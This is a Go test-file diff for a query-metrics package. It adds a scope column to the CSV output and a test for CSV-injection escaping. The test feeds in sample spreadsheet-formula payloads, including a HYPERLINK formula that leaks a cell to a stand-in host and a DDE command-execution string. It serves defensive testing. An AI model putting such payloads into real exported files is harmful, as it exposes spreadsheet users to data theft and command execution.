@@ -2,6 +2,7 @@ package metrics
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"slices"
 	"strings"
@@ -20,7 +21,7 @@ var fieldNames = []string{
 	"reranker_score_mean", "reranker_score_min", "cosine_sim_mean", "bm25_contribution_pct", "bm25_score_share_pct", "hit_at_5",
 	"recall_at_5", "mrr", "page_types_used", "fallback_chain",
 	"history_applied", "hyde_applied", "multi_query_applied", "rerank_applied",
-	"tokens_in", "tokens_out", "citation_valid_pct", "images_sent", "images_withheld",
+	"tokens_in", "tokens_out", "citation_valid_pct", "images_sent", "images_withheld", "scope",
 }
 
 const fakeKey = "sk-or-v1-0123456789abcdef0123456789abcdef"
@@ -164,14 +165,15 @@ func TestMeanMin(t *testing.T) {
 
 func TestWriteCSV(t *testing.T) {
 	abstained := Record{QueryIndex: 3, Query: "my key is " + fakeKey + ", and gsk_abcdefghijklmnopqrstuvwxyz012345 too?",
-		LLMRoutingMode: RoutingAbstained, RetrievalMode: "bm25", TotalLatencyMs: 4.5, BM25ContributionPct: 100}
+		LLMRoutingMode: RoutingAbstained, RetrievalMode: "bm25", TotalLatencyMs: 4.5, BM25ContributionPct: 100,
+		Scope: "devlin2019_bert.pdf, he2015_resnet.pdf p.3-5"}
 	var b bytes.Buffer
 	if err := WriteCSV(&b, []Record{sample(), abstained}); err != nil {
 		t.Fatal(err)
 	}
 	want := strings.Join(fieldNames, ",") + "\n" +
-		`2,"How does unit propagation work, in ""DPLL""?",gemini/gemini-2.5-flash,auto,hybrid,12.5,840,310.25,853.75,40,8,,,0.41,62.5,48.25,1,0.5,0.5,mixed:2;text:6,groq/llama-3.1-8b-instant (rate_limited) > gemini/gemini-2.5-flash,true,false,false,true,2400,180,87.5,2,0` + "\n" +
-		`3,"my key is [redacted], and [redacted] too?",,abstained,bm25,0,0,,4.5,0,0,,,,100,0,,,,,,false,false,false,false,0,0,,0,0` + "\n"
+		`2,"How does unit propagation work, in ""DPLL""?",gemini/gemini-2.5-flash,auto,hybrid,12.5,840,310.25,853.75,40,8,,,0.41,62.5,48.25,1,0.5,0.5,mixed:2;text:6,groq/llama-3.1-8b-instant (rate_limited) > gemini/gemini-2.5-flash,true,false,false,true,2400,180,87.5,2,0,` + "\n" +
+		`3,"my key is [redacted], and [redacted] too?",,abstained,bm25,0,0,,4.5,0,0,,,,100,0,,,,,,false,false,false,false,0,0,,0,0,"devlin2019_bert.pdf, he2015_resnet.pdf p.3-5"` + "\n"
 	if diff := cmp.Diff(want, b.String()); diff != "" {
 		t.Errorf("CSV (-want +got):\n%s", diff)
 	}
@@ -232,5 +234,29 @@ func TestStopwatch(t *testing.T) {
 	now = now.Add(3 * time.Millisecond)
 	if d := sw.Total(); d != 815*time.Millisecond || Ms(d) != 815 {
 		t.Errorf("total %v", d)
+	}
+}
+
+// TestWriteCSVFormulas: text cells that a spreadsheet would run as a
+// formula (CSV injection) start with an apostrophe; numbers stay numbers.
+func TestWriteCSVFormulas(t *testing.T) {
+	for _, q := range []string{`=HYPERLINK("https://evil.example?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"} {
+		neg := -0.25
+		r := Record{QueryIndex: 1, Query: q, LLMModel: "=cmd", RetrievalMode: "bm25", RerankerScoreMin: &neg}
+		var b bytes.Buffer
+		if err := WriteCSV(&b, []Record{r}); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&b).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		cells := map[string]string{}
+		for i, name := range rows[0] {
+			cells[name] = rows[1][i]
+		}
+		if cells["query"] != "'"+q || cells["llm_model"] != "'=cmd" || cells["reranker_score_min"] != "-0.25" {
+			t.Errorf("query %q: cells query=%q llm_model=%q reranker_score_min=%q", q, cells["query"], cells["llm_model"], cells["reranker_score_min"])
+		}
 	}
 }
